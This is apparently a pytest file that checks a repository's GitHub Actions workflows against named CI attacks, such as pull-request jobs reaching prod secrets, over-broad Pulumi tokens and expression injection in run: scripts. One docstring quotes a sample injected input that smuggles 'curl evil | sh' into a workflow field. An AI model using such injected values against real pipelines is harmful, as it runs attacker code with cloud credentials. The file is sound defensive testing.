"""Attacks on CI and on the secret scan (issue 9, items 8 and 9): one test per attack, named after it.

The workflows cannot run here; they are read as GitHub reads them (``tests/ci_workflows.py``) and judged by an
outside checker where one exists (zizmor offline). The scan's attacks plant obviously fake values, generated in
the test, in a throwaway git repository and let gitleaks judge with the committed ``.gitleaks.toml``.
"""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pytest

from tests import ci_workflows as ci

ZIZMOR = ci.ROOT / ".venv" / "bin" / "zizmor"


def test_pull_request_branch_decrypts_prod() -> None:
    """Attack: open a pull request from a branch of this repository; its code (``__main__.py``, the Makefile,
    the workflow itself) runs in a job that holds prod's Pulumi token and deploy-environment variables, so
    ``pulumi preview`` decrypts prod's config and the branch can print every prod secret."""
    exposed = [
        f"{r.workflow}:{r.job} environments={sorted(r.environments)} stacks={sorted(r.stacks)}"
        for r in ci.reaches()
        if r.triggers & ci.UNREVIEWED_TRIGGERS and r.reaches_prod()
    ]
    assert exposed == [], "jobs of a pull request reach prod:\n" + "\n".join(exposed)


def test_dispatch_from_a_feature_branch_reaches_prod() -> None:
    """Attack: push a branch and start a workflow on it by hand (``workflow_dispatch`` runs the chosen branch's
    code) or by any trigger other than a push to main; a prod job then runs unreviewed code with prod's
    credentials. Every job that reaches prod must be started only from main and say so in its ``if:``."""
    loose = []
    for reach in ci.reaches():
        if not reach.reaches_prod():
            continue
        allowed = {"push", "workflow_dispatch", "schedule"}
        only_main = any("github.ref == 'refs/heads/main'" in c for c in reach.conditions)
        if not reach.triggers <= allowed or not only_main:
            loose.append(f"{reach.workflow}:{reach.job} triggers={sorted(reach.triggers)}")
    assert loose == [], "prod jobs not restricted to main:\n" + "\n".join(loose)
    deploy = ci.triggers(ci.workflows()["deploy.yml"])
    assert deploy["push"]["branches"] == ["main"]


def test_one_stack_token_opens_every_stack() -> None:
    """Attack: a job given an organization-wide Pulumi token (``access_token:organization``) for a dev preview
    can also read prod's state and decrypt prod's config. The token a job requests must be a team token whose
    team the environment names (a team with access to that one stack), never an organization token."""
    job = ci.load(ci.WORKFLOW_DIR / "pulumi-stack.yml")["jobs"]["pulumi"]
    auth = [s for s in job["steps"] if str(s.get("uses", "")).startswith("pulumi/auth-actions@")]
    assert auth, "the Pulumi Cloud login step"
    for step in auth:
        with_ = step["with"]
        assert with_["requested-token-type"] == "urn:pulumi:token-type:access_token:team", with_
        assert with_["scope"] == "team:${{ vars.PULUMI_TEAM }}", with_
    every = "\n".join(p.read_text() for p in ci.GITHUB.rglob("*.yml"))
    assert "access_token:organization" not in every


def test_workflow_input_injects_shell() -> None:
    """Attack: a caller passes ``stack: 'x"; curl evil | sh; "'`` (or an environment name with ``$(...)``);
    expanded by ``${{ }}`` inside a ``run:`` script it becomes shell code in a job holding cloud credentials.
    zizmor (offline) judges: it must report nothing but unpinned action tags (pinned by major on purpose,
    kept current by Dependabot)."""
    result = subprocess.run(
        [str(ZIZMOR), "--offline", "--format", "json", "--no-progress", str(ci.GITHUB)],
        capture_output=True,
        text=True,
        cwd=ci.ROOT,
    )
    assert result.returncode in (0, 10, 11, 12, 13, 14), result.stderr
    findings = json.loads(result.stdout)
    other = sorted(
        (f["ident"], loc["symbolic"]["key"]["Local"]["verbatim_path"])
        for f in findings
        for loc in f["locations"][-1:]
        if f["ident"] != "unpinned-uses"
    )
    assert other == [], f"zizmor: {other}"
    assert any(f["ident"] == "unpinned-uses" for f in findings), "zizmor audited nothing"


@pytest.mark.parametrize(
    "path", sorted((ci.GITHUB / "workflows").glob("*.yml")), ids=lambda p: p.name
)
def test_expression_in_run_script(path: Path) -> None:
    """Attack: the same injection through any ``${{ }}`` inside a ``run:`` block, including contexts zizmor
    trusts today (``inputs``, ``matrix``): values reach a script only through ``env:``."""
    data = ci.load(path)
    scripts = [
        str(step.get("run", "")) for job in data["jobs"].values() for step in job.get("steps", [])
    ]
    assert [s for s in scripts if re.search(r"\$\{\{", s)] == []


def test_control_a_pull_request_job_given_prod_is_seen(tmp_path: Path) -> None:
    """Control for the two tests above: the same reading flags a pull-request workflow widened back to a
    prod preview (a matrix over dev and prod), so a passing attack test means the workflows, not the reader."""
    for path in ci.WORKFLOW_DIR.glob("*.yml"):
        (tmp_path / path.name).write_text(path.read_text())
    pr = tmp_path / "pull-request.yml"
    widened = pr.read_text().replace(
        "      stack: dev\n      command: preview\n      environment: preview-dev",
        "      stack: ${{ matrix.stack }}\n      command: preview\n"
        "      environment: preview-${{ matrix.stack }}\n"
        "    strategy:\n      matrix:\n        stack: [dev, prod]",
    )
    assert widened != pr.read_text()
    pr.write_text(widened)
    exposed = {
        (r.job, tuple(sorted(r.environments)))
        for r in ci.reaches(tmp_path)
        if r.triggers & ci.UNREVIEWED_TRIGGERS and r.reaches_prod()
    }
    assert exposed == {("preview", ("preview-prod",))}
